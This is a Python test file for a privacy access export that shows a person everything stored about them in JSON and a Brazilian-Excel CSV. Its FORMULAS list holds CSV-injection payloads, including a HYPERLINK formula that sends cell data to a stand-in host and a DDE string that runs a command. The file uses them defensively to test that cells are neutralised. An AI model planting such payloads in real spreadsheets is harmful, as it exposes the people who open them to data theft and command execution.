"""A person sees all that is held of them, in codes for programs and in words for people, whatever they typed."""

import csv
import io
import json
import unicodedata
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field, replace
from datetime import timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.alerts.channel import ChannelKind
from shared.answer import Answer, AnswerKey, Standing, SuspicionReason
from shared.privacy.access import BESIDE, Access
from shared.privacy.copies import as_csv, as_json, harmless, rows, words
from shared.privacy.erasure import Recipient
from shared.privacy.ports import HeldComment, HeldConsent, HeldContact, HeldInvitation, Profile
from shared.scoring import NpsClass
from shared.survey import Encarregado, LegalBasis, Locale, Survey, Touchpoint
from tests.alert_contents import CORPUS, LOCALES
from tests.fakes.registry import MemorySurveys
from tests.fakes.samples import NOON, answer_of, key_of, settings_of, survey_of

DAY = timedelta(days=1)
LATER = NOON + 90 * DAY
SURVEY = survey_of(
    settings=settings_of(
        name="Pós-compra",
        touchpoints=(Touchpoint(key="checkout", label="Caixa", journey_stage="compra"),),
        legal_basis=LegalBasis(kind="consent", consent_version="v2", consent_text={"pt-BR": "Concordo em responder."}),
        encarregado=Encarregado(name="Rui Dias", email="rui@loja.example"),
        notice_url="https://loja.example/privacidade",
    )
)
ANA = Profile(customer_id="C-1", email="ana@exemplo.com.br", name="Ana Prado", changed_at=NOON, keep_until=LATER)
CRM = Recipient(
    channel_id="ch_2222222222222222",
    name="CRM",
    kind="webhook",
    host="crm.example",
    country="US",
    fields=frozenset({"email", "comment"}),
    first_at=NOON,
    last_at=NOON + DAY,
    times=2,
)


@dataclass
class Held:
    """What the stores hold of Ana (`p`), as `Access` reads it."""

    person: Profile | None = ANA
    texts: dict[int, str] = field(default_factory=lambda: {1: "A entrega atrasou."})
    given: list[Answer] = field(default_factory=list)
    pointers: list[tuple[str, str]] = field(default_factory=list)
    survey: Survey = SURVEY

    def __post_init__(self) -> None:
        self.given = self.given or [answer_of(SURVEY, 1, 3, person_id="p", commented=True), answer_of(SURVEY, 2, 9, person_id="p")]
        self.pointers = self.pointers or [("loja", answer.key.answer_id) for answer in self.given]

    def persons_of(self, kind: str, identifier: str) -> Sequence[str]:
        raise NotImplementedError

    mark_erased = is_known = lookups_of = holdings = delete_some = delete_all = persons_of

    def answers_of(self, person_id: str, after: str = "") -> Iterator[tuple[str, str]]:
        return iter([each for each in self.pointers if each[1] > after] if person_id == "p" else [])

    def recipients_of(self, person_id: str) -> Sequence[Recipient]:
        return [CRM] if person_id == "p" else []

    def consents(self, person_id: str) -> Sequence[HeldConsent]:
        given = HeldConsent(
            survey_id="loja", answer_id=key_of(SURVEY, 1).answer_id, version="v2", locale="pt-BR", given_at=NOON, keep_until=LATER
        )
        return [given] if person_id == "p" else []

    def invitations(self, person_id: str) -> Sequence[HeldInvitation]:
        return [HeldInvitation(survey_id="loja", made_at=NOON, keep_until=LATER)] if person_id == "p" else []

    def contacts(self, person_id: str) -> Sequence[HeldContact]:
        shown = HeldContact(survey_id="loja", shown=2, shown_at=NOON, keep_until=LATER)
        return [HeldContact(answered_at=NOON, dismissed_at=NOON - DAY, keep_until=LATER), shown] if person_id == "p" else []

    def profile(self, person_id: str) -> Profile | None:
        return self.person if person_id == "p" else None

    def comments(self, person_id: str) -> Iterator[HeldComment]:
        for number, text in self.texts.items() if person_id == "p" else ():
            yield HeldComment(survey_id="loja", answer_id=key_of(SURVEY, number).answer_id, text=text, written_at=NOON, keep_until=LATER)

    def find(self, key: AnswerKey) -> Answer | None:
        return next((answer for answer in self.given if answer.key == key), None)

    def document(self, person_id: str = "p", proven: Sequence[AnswerKey] = ()) -> Mapping[str, Any]:
        access: Any = Access(self, self, MemorySurveys(self.survey), lambda: NOON + DAY)  # type: ignore[arg-type]  # its reading half
        return dict(access.of(person_id, proven))


def lines(document: Mapping[str, Any], locale: Locale = "pt-BR") -> list[list[str]]:
    """The CSV as a spreadsheet reads it."""
    text = as_csv(document, locale).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_it_holds_everything_with_origin_purpose_and_end() -> None:
    document = Held().document()
    answer = document["answers"][0]
    assert document["made_at"] == "2026-03-11T15:00:00Z"
    assert document["profile"] == {
        "customer_id": "C-1",
        "email": "ana@exemplo.com.br",
        "name": "Ana Prado",
        "origin": "company",
        "changed_at": "2026-03-10T15:00:00Z",
        "kept_until": "2026-06-08T15:00:00Z",
    }
    assert (answer["score"], answer["class"], answer["standing"], answer["origin"]) == (3, "detractor", "valid", "person")
    assert (answer["answered_at"], answer["kept_until"]) == ("2026-03-10T15:00:00Z", "2026-05-09T15:00:00Z")
    assert answer["comment"] == {
        "text": "A entrega atrasou.",
        "origin": "person",
        "written_at": "2026-03-10T15:00:00Z",
        "kept_until": "2026-06-08T15:00:00Z",
    }
    assert answer["circumstances"] == [
        {"name": "segment.plan", "value": "pro", "label": None, "journey_stage": None, "origin": "page"},
        {"name": "touchpoint", "value": "checkout", "label": "Caixa", "journey_stage": "compra", "origin": "page"},
    ]
    assert document["answers"][1]["comment"] is None
    assert document["shared_with"] == [
        {
            "name": "CRM",
            "kind": "webhook",
            "host": "crm.example",
            "country": "US",
            "fields": ["comment", "email"],
            "first_at": "2026-03-10T15:00:00Z",
            "last_at": "2026-03-11T15:00:00Z",
            "times": 2,
        }
    ]
    [consent] = document["consents"]
    assert (consent["consent_version"], consent["locale"], consent["given_at"], consent["origin"]) == (
        *("v2", "pt-BR", "2026-03-10T15:00:00Z", "person"),
    )
    assert consent["answer_id"] == answer["answer_id"]
    assert [(each["survey_id"], each["origin"]) for each in document["invitations"]] == [("loja", "company")]
    assert [(each["survey_id"], each["times_shown"], each["last_answered_at"]) for each in document["asked"]] == [
        *((None, None, "2026-03-10T15:00:00Z"), ("loja", 2, None)),
    ]
    [survey] = document["surveys"]
    assert (survey["purpose"], survey["legal_basis"]["kind"], survey["legal_basis"]["consent_version"]) == ("satisfaction", "consent", "v2")
    assert (survey["retention_days"], survey["encarregado"]) == (60, {"name": "Rui Dias", "email": "rui@loja.example"})
    assert document["beside"] == BESIDE


def test_of_whoever_nothing_is_held_of_it_holds_nothing() -> None:
    document = Held().document("somebody-else")
    assert (document["profile"], document["answers"], document["shared_with"], document["surveys"]) == (None, [], [], [])
    assert (document["consents"], document["invitations"], document["asked"]) == ([], [], [])


def test_an_answer_that_names_somebody_else_by_now_is_not_shown() -> None:
    held = Held(given=[answer_of(SURVEY, 1, 3, person_id="-"), answer_of(SURVEY, 2, 9, person_id="q")], texts={})
    assert held.document()["answers"] == []


def test_a_comment_whose_answer_was_never_stored_is_shown() -> None:
    held = Held(texts={5: "Sem nota."})
    [found] = [answer for answer in held.document()["answers"] if answer["comment"]]
    assert (found["score"], found["comment"]["text"]) == (None, "Sem nota.")


def test_an_anonymous_answer_is_shown_to_whoever_proves_it() -> None:
    held = Held(person=None, texts={}, pointers=[("loja", "00000000-0000-7000-8000-000000000000")])
    key = held.given[0].key
    assert [answer["answer_id"] for answer in held.document(proven=[key])["answers"]] == [key.answer_id]
    assert held.document()["answers"] == []


def test_what_was_withdrawn_or_whose_survey_is_gone_is_shown_as_far_as_it_is_held() -> None:
    reasons = (SuspicionReason.HONEYPOT, SuspicionReason.NETWORK)
    aside = Held(given=[answer_of(SURVEY, 1, 3, person_id="p", standing=Standing.QUARANTINED, suspicions=reasons)])
    assert aside.document()["answers"][0]["suspicions"] == ["honeypot", "network"]
    assert "preencheu um campo que ninguém vê, muitas vieram da mesma rede" in as_csv(aside.document(), "pt-BR").decode("utf-8-sig")
    withdrawn = Held(given=[answer_of(SURVEY, 1, 3, person_id="p", standing=Standing.WITHDRAWN)])
    assert (withdrawn.document()["answers"][0]["standing"], withdrawn.document()["answers"][0]["class"]) == ("withdrawn", None)
    replaced = Held(given=[answer_of(SURVEY, 1, 3, {"identity": "identified"}, person_id="p", standing=Standing.SUPERSEDED)])
    [shown] = replaced.document()["answers"]
    assert (shown["standing"], shown["class"], shown["score"]) == ("superseded", None, 3)
    assert [(each["name"], each["value"], each["origin"]) for each in shown["circumstances"]] == [("identity", "identified", "company")]
    said = as_csv(replaced.document(), "pt-BR").decode("utf-8-sig")
    assert "substituída por outra" in said
    assert "identificada · informado pela empresa, com assinatura" in said
    gone = Held(survey=survey_of("outra"))
    [left] = gone.document()["answers"]
    assert (left["survey_id"], left["score"], left["comment"]["text"]) == ("loja", None, "A entrega atrasou.")
    assert any("A entrega atrasou." in line for line in lines(gone.document()))


def test_the_json_is_the_document() -> None:
    document = Held().document()
    assert json.loads(as_json(document)) == document


@pytest.mark.parametrize("locale", LOCALES)
def test_every_line_is_in_words(locale: Locale) -> None:
    document = Held(texts={1: "Texto."}).document()
    read = lines(document, locale)
    assert read[0] == list(words(locale).columns)
    assert all(len(line) == 4 and line[0] and line[2] and line[3] for line in read)
    ours = [line[3] for line in read] + [line[2] for line in read]
    codes = {
        "person",
        "company",
        "page",
        "detractor",
        "promoter",
        "valid",
        "consent",
        "satisfaction",
        "webhook",
        "P30D",
        "anonymous",
        "True",
    }
    allowed = {"page", "company", "consent", "detractor", "promoter"} if locale != "pt-BR" else set()
    assert not (codes - allowed) & set(ours)
    joined = "\n".join(";".join(line) for line in read)
    assert not any(part in joined for part in ("2026-03-10T", "{", "None", "_at", "kept_until"))
    for value in ("C-1", "Ana Prado", "ana@exemplo.com.br", "Texto.", "Caixa (compra)", "crm.example", "US", "Rui Dias", "3", "60"):
        assert value in joined


def test_in_portuguese_it_reads_like_this() -> None:
    read = lines(Held().document())
    assert ["Seus comentários", f"Pós-compra {key_of(SURVEY, 1).answer_id}", "Texto", "A entrega atrasou."] in read
    assert ["Quem recebeu dados seus", "CRM", "Dados enviados", "Comentário, E-mail"] in read
    assert ["Base legal", "Pós-compra", "Tipo", "consentimento"] in read
    moment = "terça, 10 de março de 2026, 12:00 (UTC-3)"
    assert ["Suas respostas", f"Pós-compra {key_of(SURVEY, 1).answer_id}", "Respondido em", moment] in read
    situation = [line[2:] for line in read if line[0] == "Em que situação respondeu"]
    assert situation[:2] == [
        ["Segmento plan", "pro · informado pela página em que respondeu"],
        ["Momento", "Caixa (compra) · informado pela página em que respondeu"],
    ]


def test_a_companys_own_words_are_not_taken_for_codes() -> None:
    plain = answer_of(SURVEY, 1, 9, {"segment.plan": "no", "channel": "page", "variant": "company", "locale": "other"}, person_id="p")
    said = {line[2]: line[3].split(" · ")[0] for line in lines(Held(given=[plain]).document()) if line[0] == "Em que situação respondeu"}
    assert said == {"Segmento plan": "no", "Meio": "página", "Versão da pergunta": "company", "Idioma": "outro"}
    assert ["Quem você é para nós", "", "Nome", "valid"] in lines(Held(person=replace(ANA, name="valid")).document())


@pytest.mark.parametrize("locale", LOCALES)
def test_every_locale_has_the_same_words(locale: Locale) -> None:
    ours, theirs = words("pt-BR"), words(locale)
    for part in ("parts", "names", "values"):
        assert getattr(ours, part).keys() == getattr(theirs, part).keys()
        assert all(getattr(theirs, part).values())
    assert {*NpsClass, *Standing, *ChannelKind, *BESIDE.values()} <= theirs.values.keys()
    assert {*BESIDE, *SuspicionReason} <= theirs.names.keys()


def test_the_csv_is_what_excel_in_brazil_opens() -> None:
    written = as_csv(Held().document(), "pt-BR")
    assert written.startswith(b'\xef\xbb\xbf"Parte";"Item";"O que \xc3\xa9";"Valor"\r\n')
    assert written.endswith(b"\r\n")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1;"clique")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\x00=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    held = Held(texts={1: text}, person=replace(ANA, name=text, email=text, customer_id=text))
    read = lines(held.document())
    assert sum(cell == f"'{text}" for line in read for cell in line) == 4
    assert not any(starts_like_a_formula(cell) for line in read for cell in line)


@pytest.mark.parametrize("text", [each for each in CORPUS if each], ids=lambda text: repr(text[:20]))
def test_whatever_was_typed_stays_in_its_cell(text: str) -> None:
    read = lines(Held(texts={1: text}, person=replace(ANA, name=text)).document())
    whole = text.encode("utf-8", "replace").decode()
    assert sum(cell.removeprefix("'") == whole.removeprefix("'") for line in read for cell in line) >= 2
    assert all(len(line) == 4 for line in read)
    assert len(read) == len(lines(Held().document()))


@given(text=st.text(min_size=1))
def test_harmless_changes_nothing_but_a_beginning(text: str) -> None:
    made = harmless(text)
    assert made in {text, f"'{text}"}
    assert not starts_like_a_formula(made)


def test_what_is_no_formula_stays_as_it_is() -> None:
    for text in ("Ótimo!", "5 - 3", "a=b", "'=1", "", "(=1)", "10/10"):
        assert harmless(text) == text


def test_rows_are_for_the_page_too() -> None:
    assert next(rows(Held().document(), "es")).part == "Esta copia"


def starts_like_a_formula(cell: str) -> bool:
    seen = [each for each in unicodedata.normalize("NFKC", cell) if unicodedata.category(each)[0] not in "ZC"]
    return cell[:1] in set("=+-@\t\r\n") or (bool(seen) and seen[0] in "=+-@")
